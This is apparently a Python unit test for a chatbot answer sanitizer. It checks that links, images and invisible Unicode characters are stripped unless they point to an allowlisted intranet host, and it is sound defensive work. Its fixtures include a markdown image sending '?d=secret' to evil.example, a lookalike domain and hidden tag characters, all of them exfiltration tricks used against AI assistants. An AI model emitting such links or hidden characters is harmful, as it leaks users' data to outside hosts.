"""Answers lose invisible characters and links or images to hosts not on the allowlist."""

from __future__ import annotations

import pytest

from bot.core.sanitize import sanitize_answer

pytestmark = pytest.mark.unit

ALLOW = ("intranet.example.co.jp",)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("見てください ![x](https://evil.example/p.png?d=secret) 以上", "見てください  以上"),
        ("[手順書](https://evil.example/login) を参照", "手順書 を参照"),
        ("<https://evil.example/a|こちら> です", "こちら です"),
        ("go to https://evil.example/x now", "go to [link removed] now"),
        ("[wiki](https://wiki.intranet.example.co.jp/a) ok", "[wiki](https://wiki.intranet.example.co.jp/a) ok"),
        ("![chart](https://intranet.example.co.jp/c.png)", "![chart](https://intranet.example.co.jp/c.png)"),
        ("https://intranet.example.co.jp.evil.example/x", "[link removed]"),
        ("締め日は\u200b25日\U000e0041です", "締め日は25日です"),
        ("plain [1] citation stays", "plain [1] citation stays"),
    ],
)
def test_sanitize_answer(answer: str, expected: str) -> None:
    """Each kind of link, image and hidden character, with allowlisted near-misses kept."""
    assert expected == sanitize_answer(answer, ALLOW)
